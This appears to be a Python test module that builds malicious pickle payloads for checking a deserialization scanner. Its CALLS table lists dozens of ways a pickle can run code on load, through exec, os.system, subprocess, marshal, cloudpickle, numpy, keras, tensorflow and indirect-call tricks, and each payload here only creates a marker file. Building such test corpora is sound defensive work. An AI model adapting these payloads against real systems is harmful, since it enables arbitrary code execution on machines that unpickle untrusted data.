"""Calls that do something as soon as they are loaded, by what is called; the value of a pickle alone."""

from __future__ import annotations

import marshal
from collections.abc import Callable

from .opcodes import MARK, TUPLE, call, data, listed, mapping, name, new, number, text, whole

Technique = Callable[[str], bytes]
V = "hostile.victim"


def code(path: str) -> str:
    return f"open({path!r}, 'w').close()"


def made(path: str) -> bytes:
    """A map object whose first item is made by making the directory."""
    return call(name("builtins", "map"), name("os", "mkdir"), listed(text(path)))


def _marshalled(path: str) -> bytes:
    compiled = marshal.dumps(compile(code(path), "x", "exec"))
    loaded = call(name("marshal", "loads"), data(compiled))
    return call(call(name("types", "FunctionType"), loaded, mapping()))


def _by_cloudpickle(path: str) -> bytes:
    """A function as cloudpickle writes it, and a call of it."""
    import cloudpickle

    def touch() -> None:
        open(path, "w").close()

    written: bytes = cloudpickle.dumps(touch, protocol=3)
    return call(written[2:-1])


def _cloud(path: str) -> bytes:
    """A cloudpickle within a pickle."""
    import cloudpickle

    compiled: bytes = cloudpickle.dumps(lambda: open(path, "w").close())
    return call(call(name("cloudpickle", "loads"), data(compiled)))


#: Calls, by what is called.
CALLS: dict[str, Technique] = {
    "exec": lambda p: call(name("builtins", "exec"), text(code(p))),
    "eval": lambda p: call(name("builtins", "eval"), text(code(p))),
    "open": lambda p: call(name("builtins", "open"), text(p), text("w")),
    "io.open": lambda p: call(name("io", "open"), text(p), text("w")),
    "io.FileIO": lambda p: call(name("_io", "FileIO"), text(p), text("w")),
    "os.system": lambda p: call(name("os", "system"), text(f"touch {p}")),
    "posix.system": lambda p: call(name("posix", "system"), text(f"touch {p}")),
    "os.mkdir": lambda p: call(name("os", "mkdir"), text(p)),
    "os.popen": lambda p: call(
        call(name("builtins", "getattr"), call(name("os", "popen"), text(f"touch {p}")), text("close"))
    ),
    "subprocess.call": lambda p: call(name("subprocess", "call"), listed(text("touch"), text(p))),
    "subprocess.getoutput": lambda p: call(name("subprocess", "getoutput"), text(f"touch {p}")),
    "pathlib.Path.mkdir": lambda p: call(name("pathlib", "Path.mkdir"), call(name("pathlib", "Path"), text(p))),
    "dotted-into-another-module": lambda p: call(name("pathlib", "os.mkdir"), text(p)),
    "getattr-of-an-import": lambda p: call(
        call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("mkdir")),
        text(p),
    ),
    "__import__": lambda p: call(
        call(name("builtins", "getattr"), call(name("builtins", "__import__"), text("os")), text("mkdir")), text(p)
    ),
    "pkgutil.resolve_name": lambda p: call(call(name("pkgutil", "resolve_name"), text("os:mkdir")), text(p)),
    "__globals__-of-a-function": lambda p: call(
        call(name("operator", "getitem"), name("os", "makedirs.__globals__"), text("mkdir")), text(p)
    ),
    "operator.attrgetter": lambda p: call(
        call(
            call(name("operator", "attrgetter"), text("mkdir")),
            call(name("importlib", "import_module"), text("os")),
        ),
        text(p),
    ),
    "operator.methodcaller": lambda p: call(
        call(name("operator", "methodcaller"), text("mkdir")), call(name("pathlib", "Path"), text(p))
    ),
    "functools.partial": lambda p: call(call(name("functools", "partial"), name("os", "mkdir"), text(p))),
    "functools.reduce": lambda p: call(
        name("functools", "reduce"), name("builtins", "open"), listed(text(p), text("w"))
    ),
    "functools.lru_cache": lambda p: call(call(name("functools", "lru_cache"), name("os", "mkdir")), text(p)),
    "functools.singledispatch": lambda p: call(
        call(name("functools", "singledispatch"), name("os", "mkdir")), text(p)
    ),
    "operator.call": lambda p: call(
        name("functools", "partial.__call__"), call(name("functools", "partial"), name("os", "mkdir")), text(p)
    ),
    "map": lambda p: call(name("builtins", "list"), made(p)),
    "filter": lambda p: call(
        name("builtins", "tuple"), call(name("builtins", "filter"), name("os", "mkdir"), listed(text(p)))
    ),
    "itertools.starmap": lambda p: call(
        name("builtins", "set"),
        call(name("itertools", "starmap"), name("os", "mkdir"), listed(MARK + text(p) + TUPLE)),
    ),
    "collections.deque-of-map": lambda p: call(name("collections", "deque"), made(p)),
    "copyreg._reconstructor": lambda p: call(
        name("copyreg", "_reconstructor"), name("builtins", "tuple"), name("builtins", "tuple"), made(p)
    ),
    "copyreg.__newobj__": lambda p: call(name("copyreg", "__newobj__"), name("builtins", "tuple"), made(p)),
    "copyreg.__newobj_ex__": lambda p: call(
        name("copyreg", "__newobj_ex__"), name("builtins", "tuple"), MARK + made(p) + TUPLE, b"}"
    ),
    "sorted": lambda p: call(name("builtins", "sorted"), made(p)),
    "timeit": lambda p: call(name("timeit", "timeit"), text(code(p)), text("pass"), name("time", "time"), b"K\1"),
    "runpy": lambda p: call(
        name("runpy", "_run_code"),
        call(name("builtins", "compile"), text(code(p)), text("x"), text("exec")),
        mapping(),
    ),
    "code.InteractiveInterpreter": lambda p: call(
        name("code", "InteractiveInterpreter.runcode"),
        call(name("code", "InteractiveInterpreter")),
        call(name("builtins", "compile"), text(code(p)), text("x"), text("exec")),
    ),
    "bdb": lambda p: call(name("bdb", "Bdb.run"), call(name("bdb", "Bdb")), text(code(p))),
    "cProfile": lambda p: call(name("cProfile", "Profile.run"), call(name("cProfile", "Profile")), text(code(p))),
    "pydoc.pipepager": lambda p: call(name("pydoc", "pipepager"), text(""), text(f"touch {p}")),
    "logging.FileHandler": lambda p: call(name("logging", "FileHandler"), text(p)),
    "logging.config.dictConfig": lambda p: call(
        name("logging.config", "dictConfig"),
        mapping(
            text("version"),
            b"K\1",
            text("incremental"),
            b"\x89",
            text("disable_existing_loggers"),
            b"\x89",
            text("formatters"),
            mapping(text("x"), mapping(text("()"), text(f"{V}.fire"))),
        ),
    ),
    "sqlite3": lambda p: call(name("sqlite3", "connect"), text(p)),
    "zipfile": lambda p: call(name("zipfile", "ZipFile"), text(p), text("w")),
    "gzip": lambda p: call(name("gzip", "GzipFile"), text(p), text("wb")),
    "shutil.copyfile": lambda p: call(name("shutil", "copyfile"), text("/dev/null"), text(p)),
    "tempfile": lambda p: call(
        name("tempfile", "mkdtemp"), text(""), text(p.rpartition("/")[2]), text(p.rpartition("/")[0])
    ),
    "pickle.loads": lambda p: call(name("pickle", "loads"), data(whole(CALLS["exec"](p)))),
    "_pickle.loads": lambda p: call(name("_pickle", "loads"), data(whole(CALLS["exec"](p)))),
    "marshal": _marshalled,
    "numpy.memmap": lambda p: new(
        name("numpy", "memmap"), text(p), text("uint8"), text("w+"), number(0), MARK + b"K\1" + TUPLE
    ),
    "numpy.runstring": lambda p: call(name("numpy.testing._private.utils", "runstring"), text(code(p)), mapping()),
    "numpy.f2py": lambda p: call(name("numpy.f2py.crackfortran", "myeval"), text(code(p))),
    "numpy.vectorize": lambda p: call(call(name("numpy", "vectorize"), name("os", "mkdir")), text(p)),
    "numpy.save": lambda p: call(name("numpy", "save"), text(f"{p}.npy"), number(1)),
    "tensorflow.io.write_file": lambda p: call(name("tensorflow", "io.write_file"), text(p), text("x")),
    "tensorflow.io.gfile": lambda p: call(name("tensorflow", "io.gfile.makedirs"), text(p)),
    "tensorflow.py_function": lambda p: call(
        name("tensorflow", "py_function"),
        call(name("functools", "partial"), name(V, "fire")),
        listed(),
        text("string"),
    ),
    "keras.func_load": lambda p: call(
        call(name("keras.src.utils.python_utils", "func_load"), _code_of(p), b"N", b"N", mapping())
    ),
    "keras.deserialize": lambda p: call(
        call(
            name("keras.saving", "deserialize_keras_object"),
            mapping(text("class_name"), text("__lambda__"), text("config"), mapping(text("value"), _code_of(p))),
            b"N",
            b"\x89",
        )
    ),
    "cloudpickle": _by_cloudpickle,
    "cloudpickle.loads": _cloud,
    "cloudpickle.subimport": lambda p: call(
        call(
            name("builtins", "getattr"),
            call(name("cloudpickle.cloudpickle", "subimport"), text("os")),
            text("mkdir"),
        ),
        text(p),
    ),
}


def _code_of(path: str) -> bytes:
    import codecs

    compiled = marshal.dumps(compile(code(path), "x", "exec"))
    return text(codecs.encode(compiled, "base64").decode())
